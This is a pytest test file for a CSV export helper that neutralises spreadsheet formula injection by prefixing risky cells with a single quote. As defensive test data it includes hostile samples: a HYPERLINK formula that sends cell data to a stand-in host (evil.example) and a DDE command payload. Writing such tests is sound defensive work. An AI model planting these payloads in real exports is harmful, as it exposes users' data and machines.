"""CSV exports cannot carry spreadsheet formulas: such cells start with a single quote."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from writeathon.core.csv_safe import csv_cell, csv_rows_write


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Amira Haddad", "", " =1+1", "a=b", "Release Shawkan!", "٣ رسائل", "'already quoted"],
)
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        (Decimal("-1.50"), "-1.50"),
        (True, "true"),
        (False, "false"),
        (datetime.date(2016, 12, 10), "2016-12-10"),
        (
            datetime.datetime(2016, 12, 10, 9, 30, tzinfo=datetime.UTC),
            "2016-12-10T09:30:00+00:00",
        ),
    ],
)
def test_numbers_dates_and_empty_values_are_written_as_they_are(
    value: object, expected: str
) -> None:
    assert csv_cell(value) == expected


def test_rows_written_through_the_helper_read_back_quoted() -> None:
    buffer = io.StringIO()
    written = csv_rows_write(
        csv.writer(buffer),
        [["name", "email", "count"], ["=1+1", "@x.example", -2], ["Amira", "a@example.org", 3]],
    )
    assert written == 3
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [
        ["name", "email", "count"],
        ["'=1+1", "'@x.example", "-2"],
        ["Amira", "a@example.org", "3"],
    ]
